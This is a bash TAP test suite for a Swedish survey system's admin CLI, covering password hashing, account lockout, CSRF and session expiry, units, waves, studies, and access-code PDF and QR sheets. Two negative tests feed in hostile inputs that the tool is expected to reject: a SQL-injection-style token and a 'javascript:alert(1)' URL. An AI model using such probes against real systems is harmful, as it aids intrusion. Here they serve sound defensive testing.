#!/usr/bin/env bash
# SPDX-License-Identifier: ISC
# The administration suite (issue 5), TAP: users and sessions (wrong
# password, lockout, expiry, CSRF, logout), access codes and the code sheet
# (hashed only, typo caught, PDF text and QR links), rates and the unit
# contacts' DB role, erasure (zero rows left, content-free audit row),
# exports (counts equal the database's, CSV parses), retention; units and
# waves from the CLI, studies and new waves with their instruments (in a
# study of the run's own), users with their units in one transaction,
# Swedish messages and decimal commas, configurable session limits, and a
# locked login costing the same time as any other.
#
# Environment (tests/run-all.sh sets it; standalone, point it at a cluster
# with the demo study loaded): UF_BUILD UF_PGHOST UF_PGPORT UF_DB UF_SECRET
# UF_ARTIFACTS, optionally UF_ADMIN (the uppfolj-admin to test) and UF_SRC.
set -uo pipefail

: "${UF_BUILD:?}" "${UF_PGHOST:?}" "${UF_PGPORT:?}" "${UF_DB:?}" "${UF_SECRET:?}"
ART=${UF_ARTIFACTS:-$(mktemp -d)}/manage
mkdir -p "$ART"
ADMIN=${UF_ADMIN:-$UF_BUILD/admin/uppfolj-admin}
PROBE=$UF_BUILD/tests/manage/manage-probe
CONN="host=$UF_PGHOST port=$UF_PGPORT dbname=$UF_DB"
ADB="$CONN user=uppfolj_admin"
CDB="$CONN user=uppfolj_contact"
BASE=http://127.0.0.1:8080
TAG=t$$                     # user names of this run
PW='correct horse battery'
export ASAN_OPTIONS=${ASAN_OPTIONS:-detect_leaks=1}

n=0 failed=0
ok() { n=$((n + 1)); echo "ok $n - $*"; }
nok() { n=$((n + 1)); failed=$((failed + 1)); echo "not ok $n - $*"; }
check() { local name=$1; shift; if "$@"; then ok "$name"; else nok "$name"; fi; }
note() { sed 's/^/# /'; }
# SQL as the superuser; -At: bare values.
sql() { psql -X -qAt -v ON_ERROR_STOP=1 -h "$UF_PGHOST" -p "$UF_PGPORT" -U postgres -d "$UF_DB" -c "SET search_path = uppfolj" -c "$1"; }
# Other suites may add studies of their own: always name the demo study.
adm() {
	case $1 in
	codes|rates|export|erase|close-wave|access-export|unit-add|units|waves|wave-set|test-mark|test-purge|code-replace)
		"$ADMIN" "$1" --db "$ADB" --study demo "${@:2}" ;;
	*) "$ADMIN" "$1" --db "$ADB" "${@:2}" ;;
	esac
}

# --- prerequisites --------------------------------------------------------
if [ ! -x "$PROBE" ]; then
	make -C "$UF_BUILD" tests/manage/manage-probe >"$ART/build-probe.log" 2>&1
fi
"$ADMIN" codes --help >/dev/null 2>&1
if [ $? != 0 ] || [ ! -x "$PROBE" ]; then
	nok "uppfolj-admin has the manage subcommands and the probe builds ($ADMIN)"
	echo "1..$n"; exit 1
fi
DEMO="(SELECT study_id FROM study WHERE slug = 'demo')"
WAVE=$(sql "SELECT months FROM wave WHERE study_id = $DEMO AND closed_at IS NULL AND current_date BETWEEN opens_on AND closes_on ORDER BY months DESC LIMIT 1")
PREV=$(sql "SELECT max(months) FROM wave WHERE study_id = $DEMO AND months < ${WAVE:-0}")
GRP=$(sql "SELECT wi.grp FROM wave_instrument wi JOIN wave w USING (wave_id) WHERE w.study_id = $DEMO AND w.months = ${WAVE:-0} ORDER BY wi.grp = 'patient' DESC, wi.grp LIMIT 1")
U1=$(sql "SELECT min(unit_id) FROM unit WHERE study_id = $DEMO")
U2=$(sql "SELECT max(unit_id) FROM unit WHERE study_id = $DEMO")
if [ -z "$WAVE" ] || [ -z "$GRP" ] || [ "$U1" = "$U2" ]; then
	nok "the demo study is loaded with an open wave (got wave '$WAVE' group '$GRP')"
	echo "1..$n"; exit 1
fi
echo "# open wave $WAVE, previous $PREV, group $GRP, units $U1 and $U2"

# --- users and sessions ---------------------------------------------------
printf '%s\n' "$PW" | adm user-add "${TAG}adm" >"$ART/user-add.log" 2>&1
check "user-add creates an admin with the password from stdin" [ $? = 0 ]
h=$(sql "SELECT password_hash FROM app_user WHERE username = '${TAG}adm'")
[[ $h == '$argon2id$'* ]]
check "the password is stored as an argon2id hash" [ $? = 0 ]
check "the password itself is nowhere in app_user" \
	[ "$(sql "SELECT count(*) FROM app_user WHERE app_user::text LIKE '%correct horse%'")" = 0 ]
printf 'short\n' | adm user-add "${TAG}x" >/dev/null 2>&1
check "user-add refuses a too short password" [ $? = 1 ]
printf '%s\n' "$PW" | adm user-add "Bad Name" >/dev/null 2>&1
check "user-add refuses a malformed user name (usage)" [ $? = 2 ]
printf '%s\n' "$PW" | adm user-add "${TAG}adm" >/dev/null 2>&1
check "user-add refuses an existing user" [ $? = 1 ]

out=$(printf '%s\n' "$PW" | "$PROBE" "$ADB" login "${TAG}adm")
[[ $out == "ok "* ]]
check "the right password logs in" [ $? = 0 ]
read -r _ TOKEN CSRF _ <<<"$out"
[[ $("$PROBE" "$ADB" session "$TOKEN") == "ok ${TAG}adm admin" ]]
check "a session answers to its token" [ $? = 0 ]
check "the session row stores no clear token" \
	[ "$(sql "SELECT count(*) FROM admin_session WHERE admin_session::text LIKE '%$TOKEN%' OR admin_session::text LIKE '%$CSRF%'")" = 0 ]
check "the right CSRF token is accepted" [ "$("$PROBE" "$ADB" csrf "$TOKEN" "$CSRF")" = ok ]
# Another last digit (not always 0: a token ending in 0 would stay right).
wrong=${CSRF%?}0; [ "$wrong" = "$CSRF" ] && wrong=${CSRF%?}1
check "a wrong CSRF token is rejected" [ "$("$PROBE" "$ADB" csrf "$TOKEN" "$wrong")" = bad ]
check "a missing CSRF token is rejected" [ "$("$PROBE" "$ADB" csrf "$TOKEN" "")" = bad ]
check "a wrong password is rejected" \
	[ "$(printf 'wrong password!\n' | "$PROBE" "$ADB" login "${TAG}adm")" = EAUTH ]
check "an unknown user is rejected the same way" \
	[ "$(printf '%s\n' "$PW" | "$PROBE" "$ADB" login "${TAG}nobody")" = EAUTH ]
[ "$(printf '%s\n' "$PW" | "$PROBE" "$ADB" login "${TAG}adm" | cut -c1-2)" = ok ] && [ "$(sql "SELECT failed_logins FROM app_user WHERE username = '${TAG}adm'")" = 0 ]
check "a good login resets the failure count" [ $? = 0 ]

printf '%s\n' "$PW" | adm user-add "${TAG}lock" --role evaluator >/dev/null 2>&1
for _ in 1 2 3 4 5; do printf 'wrong password!\n' | "$PROBE" "$ADB" login "${TAG}lock" >/dev/null; done
check "after 5 failures even the right password is refused (locked)" \
	[ "$(printf '%s\n' "$PW" | "$PROBE" "$ADB" login "${TAG}lock")" = ERATE ]
mins=$(sql "SELECT round(extract(epoch FROM locked_until - now()) / 60) FROM app_user WHERE username = '${TAG}lock'")
[ "${mins:-0}" -ge 14 ] && [ "${mins:-0}" -le 15 ]
check "the first lock lasts about 15 minutes (got $mins)" [ $? = 0 ]
sql "UPDATE app_user SET locked_until = now() - interval '1 second' WHERE username = '${TAG}lock'"
printf 'wrong password!\n' | "$PROBE" "$ADB" login "${TAG}lock" >/dev/null
mins=$(sql "SELECT round(extract(epoch FROM locked_until - now()) / 60) FROM app_user WHERE username = '${TAG}lock'")
[ "${mins:-0}" -ge 29 ] && [ "${mins:-0}" -le 30 ]
check "one more failure doubles the lock (got $mins minutes)" [ $? = 0 ]
check "failed logins are in the audit log" \
	[ "$(sql "SELECT count(*) FROM audit_log WHERE action = 'user.login_failed' AND detail->>'user' = '${TAG}lock'")" = 6 ]

# A locked account must not answer faster than a wrong password: the locked
# path hashes a dummy. Medians of 3, so one slow run does not decide.
median() { printf '%s\n' "$@" | sort -n | sed -n 2p; }
tl=() tu=()
for _ in 1 2 3; do
	tl+=("$(printf '%s\n' "$PW" | "$PROBE" "$ADB" login-timed "${TAG}lock" | awk '$1 == "ERATE" { print $2 }')")
	tu+=("$(printf 'wrong password!\n' | "$PROBE" "$ADB" login-timed "${TAG}nobody" | awk '$1 == "EAUTH" { print $2 }')")
done
ml=$(median "${tl[@]}") mu=$(median "${tu[@]}")
echo "# login times (ms): locked ${tl[*]}, unknown user ${tu[*]}"
[ -n "$ml" ] && [ -n "$mu" ] && [ "$mu" -ge 5 ] && [ $((ml * 2)) -ge "$mu" ]
check "a locked login takes as long as a wrong one (median $ml ms vs $mu ms)" [ $? = 0 ]
check "a locked login is still refused as locked" \
	[ "$(printf '%s\n' "$PW" | "$PROBE" "$ADB" login "${TAG}lock")" = ERATE ]

adm users >"$ART/users.txt" 2>&1
[ $? = 0 ] && grep -qP "^${TAG}adm\tadmin\tactive\t" "$ART/users.txt" && grep -qP "^${TAG}lock\tevaluator\tlocked\t" "$ART/users.txt"
check "users lists the users with role and state (active, locked)" [ $? = 0 ]

out=$(printf '%s\n' "$PW" | "$PROBE" "$ADB" login "${TAG}adm"); read -r _ T2 _ <<<"$out"
sql "UPDATE admin_session SET created_at = now() - interval '2 hours', expires_at = now() - interval '1 second' WHERE token_hash = sha256(convert_to('$T2', 'UTF8'))"
check "an expired session is rejected" [ "$("$PROBE" "$ADB" session "$T2")" = EAUTH ]
sql "UPDATE admin_session SET created_at = now() - interval '9 hours', expires_at = now() + interval '1 minute' WHERE token_hash = sha256(convert_to('$TOKEN', 'UTF8'))"
"$PROBE" "$ADB" session "$TOKEN" >/dev/null
check "a session older than 8 hours expires on its next use" [ "$("$PROBE" "$ADB" session "$TOKEN")" = EAUTH ]
out=$(printf '%s\n' "$PW" | "$PROBE" "$ADB" login "${TAG}adm"); read -r _ T3 _ <<<"$out"
"$PROBE" "$ADB" logout "$T3" >/dev/null
check "a logged-out session is rejected" [ "$("$PROBE" "$ADB" session "$T3")" = EAUTH ]
check "a malformed token is rejected" [ "$("$PROBE" "$ADB" session "x' OR '1'='1")" = EAUTH ]

# The limits are parameters (the web's session_idle_minutes and
# session_max_hours), not constants.
exp_min() { sql "SELECT round(extract(epoch FROM expires_at - now()) / 60) FROM admin_session WHERE token_hash = sha256(convert_to('$1', 'UTF8'))"; }
out=$(printf '%s\n' "$PW" | "$PROBE" "$ADB" login "${TAG}adm" 7 8); read -r _ T4 _ <<<"$out"
m=$(exp_min "$T4")
check "a login with an idle limit of 7 minutes expires in 7 (got $m)" [ "$m" = 7 ]
"$PROBE" "$ADB" session "$T4" 12 8 >/dev/null
m=$(exp_min "$T4")
check "a request slides the expiry by the configured idle limit, 12 (got $m)" [ "$m" = 12 ]
sql "UPDATE admin_session SET created_at = now() - interval '90 minutes' WHERE token_hash = sha256(convert_to('$T4', 'UTF8'))"
check "a 90-minute session lives under the default maximum (8 hours)" \
	[ "$("$PROBE" "$ADB" session "$T4")" = "ok ${TAG}adm admin" ]
check "and is over at once with a maximum of 1 hour" [ "$("$PROBE" "$ADB" session "$T4" 30 1)" = EAUTH ]
check "limits out of bounds are refused (idle 1 minute)" \
	[ "$(printf '%s\n' "$PW" | "$PROBE" "$ADB" login "${TAG}adm" 1 8)" = EINVAL ]

# A unit contact with its units is one transaction: a unit that does not
# exist leaves no user behind.
printf '%s\n' "$PW" | adm user-add "${TAG}halv" --role unit_contact --unit "$U1" --unit 999999 >"$ART/user-halv.log" 2>&1
[ $? = 1 ] && grep -q "Det finns ingen enhet med id 999999" "$ART/user-halv.log"
check "user-add with an unknown unit fails with a Swedish message" [ $? = 0 ]
check "and leaves no user and no unit link behind" \
	[ "$(sql "SELECT count(*) FROM app_user WHERE username = '${TAG}halv'")" = 0 ]
printf 'short\n' | adm user-add "${TAG}x" >"$ART/user-short.log" 2>&1
check "a too short password is refused in Swedish, as on the web" \
	grep -q "Lösenordet ska vara 10–256 tecken" "$ART/user-short.log"

# --- units and waves from the CLI (manage/units, manage/waves) ---------------
UNAME="Enhet ${TAG} Norr"
units_before=$(sql "SELECT count(*) FROM unit")
adm unit-add --name "$UNAME" --kind boendestod --huvudman kommun --label "kommun, boendestöd" >"$ART/unit-add.log" 2>&1
st=$?
NEWU=$(sql "SELECT unit_id FROM unit WHERE name = '$UNAME'")
[ $st = 0 ] && [ -n "$NEWU" ] && grep -q "created unit $NEWU" "$ART/unit-add.log"
check "unit-add adds a unit and names its id" [ $? = 0 ]
check "the unit has its kind, huvudman and label" \
	[ "$(sql "SELECT kind || '|' || huvudman || '|' || report_label FROM unit WHERE unit_id = ${NEWU:-0}")" = "boendestod|kommun|kommun, boendestöd" ]
check "unit-add is in the audit log" \
	[ "$(sql "SELECT count(*) FROM audit_log WHERE action = 'unit.create' AND object = 'unit:${NEWU:-0}' AND actor LIKE 'cli:%'")" = 1 ]
adm unit-add --name "$UNAME" --kind boendestod --huvudman kommun --label x >"$ART/unit-dup.log" 2>&1
[ $? = 1 ] && grep -q "Det finns redan en enhet med det namnet" "$ART/unit-dup.log"
check "a second unit with the same name is refused (Swedish, exit 1)" [ $? = 0 ]
adm unit-add --name "x${TAG}" --kind sjukhus --huvudman kommun --label x >"$ART/unit-kind.log" 2>&1
[ $? = 1 ] && grep -q "Välj verksamhet" "$ART/unit-kind.log"
check "an unknown kind is refused" [ $? = 0 ]
adm unit-add --name "x${TAG}" --kind other --huvudman kommun --label "$(printf 'a\tb')" >/dev/null 2>&1
check "a label with a control character is refused" [ $? = 1 ]
adm unit-add --name "x${TAG}" --kind other --huvudman kommun >/dev/null 2>&1
check "unit-add without --label is a usage error" [ $? = 2 ]
check "no refused unit was stored" [ "$(sql "SELECT count(*) FROM unit")" = $((units_before + 1)) ]
adm units >"$ART/units.txt" 2>&1
want=$(sql "SELECT count(*) FROM participant WHERE unit_id = $U1 AND grp = '$GRP'")
col=$(head -n1 "$ART/units.txt" | tr '\t' '\n' | grep -nx "$GRP" | cut -d: -f1)
got=$(awk -F'\t' -v u="$U1" -v c="${col:-0}" '$1 == u { print $c }' "$ART/units.txt")
check "units lists participants per unit and group ($want)" [ "$got" = "$want" ]
grep -qP "^${NEWU:-x}\t${UNAME}\tboendestod\tkommun\t" "$ART/units.txt"
check "units lists the new unit" [ $? = 0 ]

read -r WOPEN WCLOSE <<<"$(sql "SELECT to_char(opens_on, 'YYYY-MM-DD') || ' ' || to_char(closes_on, 'YYYY-MM-DD') FROM wave WHERE study_id = $DEMO AND months = $WAVE")"
adm waves >"$ART/waves.txt" 2>&1
grep -qP "^${WAVE}\t${WOPEN}\t${WCLOSE}\tÖppen\t" "$ART/waves.txt"
check "waves lists the open wave with its dates and state" [ $? = 0 ]
LATER=$(sql "SELECT to_char('$WCLOSE'::date + 10, 'YYYY-MM-DD')")
unused() { sql "SELECT count(*) FROM access_code c JOIN wave w USING (wave_id) WHERE w.study_id = $DEMO AND w.months = $WAVE AND c.used_at IS NULL AND c.expires_at <> ((w.closes_on + 1)::timestamp)::timestamptz"; }
adm wave-set --wave "$WAVE" --opens "$WOPEN" --closes "$LATER" >"$ART/wave-set.log" 2>&1
[ $? = 0 ] && [ "$(sql "SELECT to_char(closes_on, 'YYYY-MM-DD') FROM wave WHERE study_id = $DEMO AND months = $WAVE")" = "$LATER" ]
check "wave-set moves the closing day" [ $? = 0 ]
check "the wave's unused codes expire with it" [ "$(unused)" = 0 ]
check "wave-set is in the audit log" \
	[ "$(sql "SELECT detail->>'closes_on' FROM audit_log WHERE action = 'wave.dates' ORDER BY audit_id DESC LIMIT 1")" = "$LATER" ]
adm wave-set --wave "$WAVE" --opens 2026-02-30 --closes "$LATER" >"$ART/wave-bad.log" 2>&1
[ $? = 1 ] && grep -q "Ange datumen som ÅÅÅÅ-MM-DD" "$ART/wave-bad.log"
check "wave-set refuses a date that does not exist" [ $? = 0 ]
adm wave-set --wave "$WAVE" --opens "$LATER" --closes "$WOPEN" >"$ART/wave-bad.log" 2>&1
[ $? = 1 ] && grep -q "före öppningsdagen" "$ART/wave-bad.log"
check "wave-set refuses closing before opening" [ $? = 0 ]
adm wave-set --wave 99 --opens "$WOPEN" --closes "$WCLOSE" >"$ART/wave-bad.log" 2>&1
[ $? = 1 ] && grep -q "Det finns ingen omgång vid 99 månader" "$ART/wave-bad.log"
check "wave-set refuses a wave that does not exist" [ $? = 0 ]
adm wave-set --wave "$WAVE" --opens "$WOPEN" >/dev/null 2>&1
check "wave-set without --closes is a usage error" [ $? = 2 ]
adm wave-set --wave "$WAVE" --opens "$WOPEN" --closes "$WCLOSE" >/dev/null 2>&1
[ $? = 0 ] && [ "$(sql "SELECT to_char(closes_on, 'YYYY-MM-DD') FROM wave WHERE study_id = $DEMO AND months = $WAVE")" = "$WCLOSE" ] && [ "$(unused)" = 0 ]
check "wave-set back to the old closing day, codes along" [ $? = 0 ]

# --- studies and new waves (manage/studies, manage/waves wave_add) --------
# A study of this run's own, so the demo study stays as the suites expect.
SW="${TAG}-sw"
SWID="(SELECT study_id FROM study WHERE slug = '$SW')"
studies_before=$(sql "SELECT count(*) FROM study")
demo_waves=$(sql "SELECT count(*) FROM wave_instrument wi JOIN wave w USING (wave_id) WHERE w.study_id = $DEMO")
adm study-add --slug "$SW" --name "Teststudie $TAG" --start 2026-09-01 >"$ART/study-add.log" 2>&1
[ $? = 0 ] && [ "$(sql "SELECT name || '|' || start_date || '|' || synthetic FROM study WHERE slug = '$SW'")" = "Teststudie $TAG|2026-09-01|false" ]
check "study-add creates the study with its name and start date" [ $? = 0 ]
check "study-add is in the audit log" \
	[ "$(sql "SELECT count(*) FROM audit_log WHERE action = 'study.create' AND object = 'study:' || $SWID AND detail->>'slug' = '$SW' AND actor LIKE 'cli:%'")" = 1 ]
adm study-add --slug "$SW" --name "Igen" --start 2026-09-01 >"$ART/study-bad.log" 2>&1
[ $? = 1 ] && grep -q "Det finns redan en studie med kortnamnet" "$ART/study-bad.log"
check "study-add refuses a slug that is taken (Swedish, exit 1)" [ $? = 0 ]
adm study-add --slug "Bad_Slug" --name "X" --start 2026-09-01 >"$ART/study-bad.log" 2>&1
[ $? = 1 ] && grep -q "Kortnamnet får bara innehålla" "$ART/study-bad.log"
check "study-add refuses a malformed slug" [ $? = 0 ]
adm study-add --slug "-${TAG}" --name "X" --start 2026-09-01 >/dev/null 2>&1
check "study-add refuses a slug starting with a dash" [ $? = 1 ]
adm study-add --slug "${TAG}-x" --name "X" --start 2026-02-30 >"$ART/study-bad.log" 2>&1
[ $? = 1 ] && grep -q "Ange projektstarten som ÅÅÅÅ-MM-DD" "$ART/study-bad.log"
check "study-add refuses a date that does not exist" [ $? = 0 ]
adm study-add --slug "${TAG}-x" --name "$(printf 'a\nb')" --start 2026-09-01 >/dev/null 2>&1
check "study-add refuses a name with a line break" [ $? = 1 ]
adm study-add --slug "${TAG}-x" --name "X" >/dev/null 2>&1
check "study-add without --start is a usage error" [ $? = 2 ]
check "no refused study was stored" [ "$(sql "SELECT count(*) FROM study")" = $((studies_before + 1)) ]
adm studies >"$ART/studies.txt" 2>&1
grep -qP "^${SW}\tTeststudie ${TAG}\t2026-09-01\tno\t0\t0$" "$ART/studies.txt" && grep -qP "^demo\t.*\tyes\t" "$ART/studies.txt"
check "studies lists the new study and the demo study" [ $? = 0 ]

wi() { sql "SELECT coalesce(string_agg(wi.grp || '=' || wi.instrument_id || ':' || wi.version, ' ' ORDER BY wi.grp), '') FROM wave_instrument wi JOIN wave w USING (wave_id) WHERE w.study_id = $SWID AND w.months = $1"; }
nwaves() { sql "SELECT (SELECT count(*) FROM wave WHERE study_id = $SWID) || '/' || (SELECT count(*) FROM wave_instrument wi JOIN wave w USING (wave_id) WHERE w.study_id = $SWID)"; }
adm wave-add --study "$SW" --months 12 --opens 2027-09-01 --closes 2027-10-15 >"$ART/wave-add.log" 2>&1
[ $? = 0 ] && [ "$(sql "SELECT opens_on || '|' || closes_on FROM wave WHERE study_id = $SWID AND months = 12")" = "2027-09-01|2027-10-15" ]
check "wave-add creates the 12-month wave with its dates" [ $? = 0 ]
# The default per group is the most recently loaded instrument whose own
# "waves" include the months (forms/README.md). Other suites load test
# instruments into this database before this one runs (tests/api's types
# instruments, for personal and patient), so the expected choice is read
# from the instrument table, and the shipped instruments are checked where
# nothing newer fits: chef and peer always, patient never at 12 months.
newest() { sql "SELECT coalesce(string_agg(grp || '=' || instrument_id || ':' || version, ' ' ORDER BY grp), '')
	FROM (SELECT DISTINCT ON (grp) grp, instrument_id, version FROM instrument
	WHERE definition->'waves' @> '[$1]' ORDER BY grp, loaded_at DESC, version DESC, instrument_id) d"; }
check "by default the 12-month wave gets each group's newest fitting instrument (got $(wi 12))" \
	[ "$(wi 12)" = "$(newest 12)" ]
shipped12() { case " $(wi 12) " in *" chef=chef:2 "*" peer=peer:2 "*) ! wi 12 | grep -qF "patient=patient:" ;; *) false ;; esac; }
check "... the shipped chef and peer instruments, and no shipped patient instrument" shipped12
adm wave-add --study "$SW" --months 24 --opens 2028-09-01 --closes 2028-10-15 >/dev/null 2>&1
check "by default the 24-month wave gets all four groups (got $(wi 24))" \
	[ "$(wi 24)" = "$(newest 24)" -a "$(wi 24 | wc -w)" = 4 ]
check "wave-add is in the audit log with the instruments it chose" \
	[ "$(sql "SELECT detail->'instruments'->>'patient' || '|' || (detail->'instruments'->>'chef') FROM audit_log WHERE action = 'wave.create' AND object = 'wave:' || (SELECT wave_id FROM wave WHERE study_id = $SWID AND months = 24)")" = "$(newest 24 | tr ' ' '\n' | sed -n 's/^patient=//p')|chef:2" ]
check "the demo study's waves are untouched" \
	[ "$(sql "SELECT count(*) FROM wave_instrument wi JOIN wave w USING (wave_id) WHERE w.study_id = $DEMO")" = "$demo_waves" ]
before=$(nwaves)
adm wave-add --study "$SW" --months 24 --opens 2028-09-01 --closes 2028-10-15 >"$ART/wave-add-bad.log" 2>&1
[ $? = 1 ] && grep -q "Det finns redan en mätning vid 24 månader" "$ART/wave-add-bad.log"
check "wave-add refuses months the study already has" [ $? = 0 ]
adm wave-add --study "$SW" --months 36 --opens 2029-10-15 --closes 2029-09-01 >"$ART/wave-add-bad.log" 2>&1
[ $? = 1 ] && grep -q "Stängningsdagen kan inte vara före öppningsdagen" "$ART/wave-add-bad.log"
check "wave-add refuses closing before opening" [ $? = 0 ]
adm wave-add --study "$SW" --months 36 --opens 2029-09-01 --closes 2029-10-15 --instrument chef=patient:2 >"$ART/wave-add-bad.log" 2>&1
[ $? = 1 ] && grep -q "är för gruppen patient, inte för gruppen chef" "$ART/wave-add-bad.log"
check "wave-add refuses an instrument of another group" [ $? = 0 ]
adm wave-add --study "$SW" --months 36 --opens 2029-09-01 --closes 2029-10-15 --instrument chef=chef:2 --instrument patient=patient:2 >/dev/null 2>&1
adm wave-add --study "$SW" --months 60 --opens 2030-09-01 --closes 2030-10-15 --instrument chef=chef:2 >"$ART/wave-add-bad.log" 2>&1
[ $? = 1 ] && grep -q "används inte vid 60 månader (bara vid 12, 24, 36)" "$ART/wave-add-bad.log"
check "wave-add refuses an instrument whose waves do not include the months" [ $? = 0 ]
adm wave-add --study "$SW" --months 60 --opens 2030-09-01 --closes 2030-10-15 --instrument chef=chef:9 >"$ART/wave-add-bad.log" 2>&1
[ $? = 1 ] && grep -q "Det finns inget inläst frågeformulär \"chef\" version 9" "$ART/wave-add-bad.log"
check "wave-add refuses an unknown instrument version" [ $? = 0 ]
adm wave-add --study "$SW" --months 60 --opens 2030-09-01 --closes 2030-10-15 >"$ART/wave-add-bad.log" 2>&1
[ $? = 1 ] && grep -q "Ingen grupp har ett frågeformulär vid 60 månader" "$ART/wave-add-bad.log"
check "wave-add refuses a wave no group would answer" [ $? = 0 ]
adm wave-add --study "$SW" --months 60 --opens 2030-09-01 --closes 2030-10-15 --instrument boss=chef:2 >/dev/null 2>&1
check "wave-add refuses an unknown group (usage)" [ $? = 2 ]
adm wave-add --study "$SW" --months 121 --opens 2030-09-01 --closes 2030-10-15 >/dev/null 2>&1
check "wave-add refuses months above 120 (usage)" [ $? = 2 ]
check "a named choice gives exactly the named groups (got $(wi 36))" [ "$(wi 36)" = "chef=chef:2 patient=patient:2" ]
check "no refused wave stored a wave or instrument row" [ "$(nwaves)" = "$(echo "$before" | awk -F/ '{ print $1 + 1 "/" $2 + 2 }')" ]
check "no refused wave wrote an audit row" \
	[ "$(sql "SELECT count(*) FROM audit_log WHERE action = 'wave.create' AND object IN (SELECT 'wave:' || wave_id FROM wave WHERE study_id = $SWID)")" = 3 ]
adm waves --study "$SW" >"$ART/waves-sw.txt" 2>&1
grep -qP "^12\t2027-09-01\t2027-10-15\tInte öppnad än\t$(wi 12 | tr ' ' '\n' | cut -d= -f1 | paste -sd,)$" "$ART/waves-sw.txt"
check "waves lists the new study's wave with its groups" [ $? = 0 ]

# --- codes and the code sheet -------------------------------------------
codes_before=$(sql "SELECT count(*) FROM access_code")
adm codes --secret "$UF_SECRET" --wave "$WAVE" --unit "$U1" --group "$GRP" --count 10 \
	--base-url "$BASE" -o "$ART/sheet.pdf" >"$ART/codes.log" 2>&1
[ $? = 0 ] && [ -s "$ART/sheet.pdf" ]
check "codes writes a sheet for 10 new participants" [ $? = 0 ]
check "10 code rows were stored" [ "$(sql "SELECT count(*) FROM access_code")" = $((codes_before + 10)) ]
pdftotext -layout "$ART/sheet.pdf" "$ART/sheet.txt" 2>/dev/null
mapfile -t CODES < <(grep -oE '\b[2-9A-HJKMNP-Z]{3}-[2-9A-HJKMNP-Z]{3}-[2-9A-HJKMNP-Z]{3}\b' "$ART/sheet.txt" | sort -u)
check "the PDF text holds 10 distinct codes (pdftotext)" [ "${#CODES[@]}" = 10 ]
check "the PDF says what the survey is, in Swedish" grep -q "Enkäten är frivillig" "$ART/sheet.txt"
check "the PDF names the wave" grep -q "$WAVE månader" "$ART/sheet.txt"
# zbar now and then misses one code at one rasterisation (seen at
# 300 dpi, read at 240 and 400); a camera sees the sheet at many sizes.
for dpi in 300 240 400; do
	pdftoppm -r "$dpi" -png "$ART/sheet.pdf" "$ART/sheet-$dpi" 2>/dev/null
	zbarimg -q --raw "$ART"/sheet-"$dpi"-*.png 2>/dev/null
done | sort -u >"$ART/qr.txt"
printf "$BASE/k/%s\n" "${CODES[@]//-/}" | sort -u >"$ART/qr-want.txt"
check "every QR code decodes to the personal link of a code on the sheet (zbarimg)" \
	cmp -s "$ART/qr.txt" "$ART/qr-want.txt"
sql "SELECT 1" >/dev/null
pg_dump -a -h "$UF_PGHOST" -p "$UF_PGPORT" -U postgres "$UF_DB" >"$ART/dump.sql" 2>/dev/null
clear=0
for c in "${CODES[@]}"; do
	grep -q -e "$c" -e "${c//-/}" "$ART/dump.sql" && clear=$((clear + 1))
done
[ -s "$ART/dump.sql" ] && [ $clear = 0 ]
check "no code appears in clear anywhere in the database (pg_dump)" [ $? = 0 ]
rm -f "$ART/dump.sql"

c0=${CODES[0]}
# Change the last (check) character and swap two neighbours: both typos.
last=${c0: -1}; sub=2; [ "$last" = 2 ] && sub=3
typo1="${c0%?}$sub"
typo2="${c0:1:1}${c0:0:1}${c0:2}"
[ "${c0:0:1}" = "${c0:1:1}" ] && typo2="${c0:0:4}${c0:5:1}${c0:4:1}${c0:6}"
out1=$(adm erase --secret "$UF_SECRET" --code "$typo1" 2>&1); st1=$?
out2=$(adm erase --secret "$UF_SECRET" --code "$typo2" 2>&1); st2=$?
[ $st1 = 1 ] && [[ $out1 == *"Koden är inte giltig"* ]]
check "a substituted character is caught by the check character" [ $? = 0 ]
[ $st2 = 1 ] && [[ $out2 == *"Koden är inte giltig"* ]]
check "swapped neighbours are caught by the check character" [ $? = 0 ]

adm codes --secret "$UF_SECRET" --wave "$WAVE" --unit "$U1" --group "$GRP" --count 0 \
	--base-url "$BASE" -o "$ART/x.pdf" >/dev/null 2>&1
check "codes refuses --count 0 (usage)" [ $? = 2 ]
adm codes --secret "$UF_SECRET" --wave "$WAVE" --unit "$U1" --group "$GRP" --count 1 \
	--base-url 'javascript:alert(1)' -o "$ART/x.pdf" >/dev/null 2>&1
check "codes refuses a base URL that is not http(s)" [ $? = 2 ]
adm codes --secret "$UF_SECRET" --wave "$WAVE" --unit "$U1" --group "$GRP" --count 1 \
	--base-url "$BASE" -o - >/dev/null 2>&1
check "codes refuses -o - (usage: the sheet holds codes)" [ $? = 2 ]
adm codes --secret "$UF_SECRET" --wave "$WAVE" --unit 999999 --group "$GRP" --count 1 \
	--base-url "$BASE" -o "$ART/x.pdf" >/dev/null 2>&1
[ $? = 1 ] && [ ! -e "$ART/x.pdf" ]
check "codes refuses an unknown unit" [ $? = 0 ]
if [ -n "$PREV" ]; then
	adm codes --secret "$UF_SECRET" --wave "$PREV" --unit "$U1" --group "$GRP" --count 1 \
		--base-url "$BASE" -o "$ART/x.pdf" >"$ART/x.log" 2>&1
	[ $? = 1 ] && grep -q "omgången är stängd" "$ART/x.log"
	check "codes refuses a wave that has closed" [ $? = 0 ]
	people=$(sql "SELECT count(*) FROM participant")
	adm codes --secret "$UF_SECRET" --wave "$WAVE" --unit "$U2" --group "$GRP" --from-wave "$PREV" \
		--base-url "$BASE" -o "$ART/carry.pdf" >"$ART/carry.log" 2>&1
	st=$?
	carried=$(grep -oE '^wrote [0-9]+' "$ART/carry.log" | cut -d' ' -f2)
	if [ $st = 0 ]; then
		[ "$(sql "SELECT count(*) FROM participant")" = "$people" ] && [ "${carried:-0}" -gt 0 ]
		check "--from-wave reuses earlier participants (no new participant, $carried codes)" [ $? = 0 ]
	else
		grep -q "deltog i" "$ART/carry.log"
		check "--from-wave with nobody to carry over says so" [ $? = 0 ]
	fi
fi

# --- rates and the unit contacts' role -----------------------------------
# Invited: every participant the wave reached (a code, a consent answer or
# a response; schema/0015), counted here with a UNION of the three tables.
inv=$(sql "SELECT count(*) FROM (SELECT participant_id, wave_id FROM access_code UNION SELECT participant_id, wave_id FROM consent UNION SELECT participant_id, wave_id FROM response) x JOIN participant p USING (participant_id) JOIN wave w USING (wave_id) WHERE w.study_id = $DEMO AND w.months = $WAVE AND p.unit_id = $U1 AND p.grp = '$GRP'")
got=$(adm rates --csv --wave "$WAVE" --unit "$U1" | awk -F, -v g="$GRP" '$(NF-6) == g { print $(NF-5) }')
check "rates counts every participant the wave reached as invited ($inv)" [ "$got" = "$inv" ]
